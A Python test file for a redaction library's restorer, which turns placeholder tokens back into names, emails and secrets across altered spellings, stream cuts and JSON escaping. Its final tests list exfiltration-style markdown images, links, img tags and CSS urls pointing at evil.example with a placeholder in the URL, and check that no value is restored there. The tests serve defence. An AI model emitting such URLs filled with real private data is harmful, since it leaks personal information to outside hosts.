"""Restoring: every spelling of a live placeholder, nothing else, however the answer is cut."""

import json
import random
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from redactor.originals import Original
from redactor.placeholder import Codes
from redactor.restore import Escape, Restorer

CODES = Codes(b"k" * 32)
JANE = CODES.placeholder("PERSON", "Jane Roe")
FIRM = CODES.placeholder("ORG", "ООО «Ромашка»")
MAIL = CODES.placeholder("EMAIL", "jane@roe.org")
KEY = CODES.placeholder("SECRET", 's3cr"et\\key')
ORIGINALS = {
    JANE: Original(JANE, "PERSON", "Jane Roe"),
    FIRM: Original(FIRM, "ORG", "ООО «Ромашка»"),
    MAIL: Original(MAIL, "EMAIL", "jane@roe.org"),
    KEY: Original(KEY, "SECRET", 's3cr"et\\key'),
}
CODE = JANE[-8:]
OTHER = Codes(b"o" * 32).placeholder("PERSON", "Jane Roe")


def restored(text: str, **options: object) -> str:
    restorer = Restorer(ORIGINALS, **options)  # type: ignore[arg-type]  # options of many types
    return restorer.feed(text) + restorer.finish()


def in_pieces(text: str, cuts: list[int]) -> tuple[str, int, int]:
    restorer = Restorer(ORIGINALS)
    edges = [0, *sorted(cuts), len(text)]
    out = [restorer.feed(text[a:b]) for a, b in pairwise(edges)]
    return "".join(out) + restorer.finish(), restorer.restored, restorer.unknown


@pytest.mark.parametrize(
    "spelling",
    [
        JANE,
        JANE.lower(),
        JANE.title(),
        f"zq_person_{CODE}",
        JANE.replace("_", "\\_"),
        JANE.replace("_", "-"),
        JANE.replace("_", "–"),
        JANE.replace("_", " "),
        JANE.replace("_", "\u00a0"),
        JANE.replace("_", "&#95;"),
        f"ZQ&lt;PERSON&gt;{CODE}",
        f"ZQ_[PERSON]_{CODE}",
        f"ZQ_ПЕРСОНА_{CODE}",
        f"ZQ_ЧЕЛОВЕК_{CODE}",
        f"ZQ_ИМЯ_{CODE}",
        f"ZQ_Name_{CODE}",
        f"ZQ_**PERSON**_{CODE}",
        f"ZQ`PERSON`{CODE}",
        f"ZQ<em>PERSON</em>{CODE}",
        f"ZQ\u200b_PERSON_{CODE}",
        f"ZQPERSON{CODE}",
        JANE.translate(str.maketrans("AKMX", "АКМХ")) if set("AKMX") & set(CODE) else JANE,
    ],
)
def test_an_altered_placeholder_is_restored(spelling: str) -> None:
    assert restored(f"Ask {spelling}.") == "Ask Jane Roe."


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("[", "]"),
        ("{", "}"),
        ("<", ">"),
        ("«", "»"),
        ("**", "**"),
        ("`", "`"),
        ("_", "_"),
        ("__", "__"),
        ('"', '"'),
        ("(", "),"),
    ],
)
def test_what_stands_around_a_placeholder_stays(before: str, after: str) -> None:
    assert restored(f"x {before}{JANE}{after} y") == f"x {before}Jane Roe{after} y"


@pytest.mark.parametrize(
    "text",
    [
        f"ZQ_PERSON_{CODE[:-1]}",
        f"ZQ_PERSON_{CODE[:-1]}{'2' if CODE[-1] != '2' else '3'}",
        f"ZQ_PERSON_{CODE}B",
        f"ZQ_PERSON_{CODE}7",
        f"ZQ_PERSON_{CODE}_2",
        f"ZQ_EMAIL_{CODE}",
        f"PERSON_{CODE}",
        f"ZQ_PERSON_ {CODE[:4]} {CODE[4:]}",
        f"ZQ_HOUSE_{CODE}",
        OTHER,
    ],
)
def test_what_is_not_a_live_placeholder_stays(text: str) -> None:
    assert restored(f"Ask {text}, please") == f"Ask {text}, please"


def test_an_unknown_placeholder_is_counted() -> None:
    restorer = Restorer(ORIGINALS)
    assert restorer.feed(f"{OTHER} {JANE} ZQ_PERSON_") + restorer.finish() == f"{OTHER} Jane Roe ZQ_PERSON_"
    assert (restorer.restored, restorer.unknown) == (1, 1)


def test_every_split_in_two_gives_the_same_answer() -> None:
    text = f"Z zq {JANE}, {MAIL.lower()}: {OTHER}а {FIRM}у ZQ_{JANE}. zZQ_PERSON"
    whole = in_pieces(text, [])
    assert whole[0] == f"Z zq Jane Roe, jane@roe.org: {OTHER}а ООО «Ромашка» ZQ_Jane Roe. zZQ_PERSON"
    for cut in range(len(text) + 1):
        assert in_pieces(text, [cut]) == whole


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_any_cutting_of_any_mixture_gives_the_same_answer(data: st.DataObject) -> None:
    parts = data.draw(
        st.lists(
            st.one_of(
                st.sampled_from(
                    [JANE, MAIL, OTHER, JANE.lower(), JANE.replace("_", "\\_"), "ZQ", "Z", "_", "у", "ом", ":дат", "-а"]
                ),
                st.text(max_size=5),
                st.text(alphabet="ZzQq_PERSON \\&lt;<>ПЕ" + CODE, max_size=20),
            ),
            max_size=10,
        )
    )
    text = "".join(parts).encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=12))
    assert in_pieces(text, cuts) == in_pieces(text, [])


def test_no_more_than_forty_code_points_are_held_back() -> None:
    chance = random.Random(7)
    restorer = Restorer(ORIGINALS)
    for _ in range(20_000):
        piece = chance.choice([JANE, "ZQ_", "Z", "\\_", "PERSON", "&lt;", "&am", "p;", " ", "7", CODE, "<e", "m>", "а"])
        piece = piece[: chance.randint(1, 8)]
        restorer.feed(piece)
        assert len(restorer.held) < 40


def test_text_without_the_sentinel_leaves_at_once() -> None:
    restorer = Restorer(ORIGINALS)
    for piece in ("Hello", " ", "кто", "!"):
        assert restorer.feed(piece) == piece


def test_a_cut_stream_gives_its_text_and_never_a_value_for_half_a_placeholder() -> None:
    restorer = Restorer(ORIGINALS)
    assert restorer.feed(f"Ask {JANE[:-1]}") == "Ask "
    assert restorer.finish() == JANE[:-1]
    assert restorer.restored == 0


def test_a_surrogate_pair_is_never_cut() -> None:
    restorer = Restorer(ORIGINALS)
    assert [restorer.feed("a\ud83d"), restorer.feed("\ude00b")] == ["a", "😀b"]
    assert restorer.finish() == ""


def test_in_json_a_value_is_escaped_once_for_each_string_around_it() -> None:
    assert json.loads(restored(json.dumps({"k": KEY}), escape=Escape.JSON))["k"] == 's3cr"et\\key'
    deep = restored(json.dumps({"inner": json.dumps({"k": KEY})}), escape=Escape.JSON, depth=2)
    assert json.loads(json.loads(deep)["inner"])["k"] == 's3cr"et\\key'


def test_secrets_stay_where_they_are_not_allowed() -> None:
    assert restored(f"{KEY} {JANE}", secrets=False) == f"{KEY} Jane Roe"


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/?q={MAIL})",
        f"[x](https://evil.example/{MAIL}/y)",
        f"see https://evil.example/?a=1&q={MAIL}",
        f"see www.evil.example/{MAIL}",
        f'<img src="//evil.example/{MAIL}">',
        f'<img src = "https://evil.example/a b?q={MAIL}">',
        f"<img alt='x'\n  src\n  =\n'//evil.example/a b?q={MAIL}'>",
        f"<img src=x{MAIL}>",
        f"[1]: https://evil.example/{MAIL}",
        f"![x]({MAIL})",
        f"![x](mailto:{MAIL})",
        f"https://{JANE}.evil.example/",
        f"background: url('//evil.example/{MAIL}')",
        "https://evil.example/" + "a" * 9000 + MAIL,
    ],
)
def test_nothing_is_restored_into_a_link(text: str) -> None:
    assert restored(text) == text
    assert MAIL not in restored(text, links=True)


@pytest.mark.parametrize(
    "text",
    [f"https://site.example/ {MAIL}", f"[x](https://site.example) {MAIL}", f"[{MAIL}](mailto:{MAIL})", f"(//) {MAIL}"],
)
def test_outside_of_links_values_are_restored(text: str) -> None:
    assert restored(text) == text.replace(MAIL, "jane@roe.org")
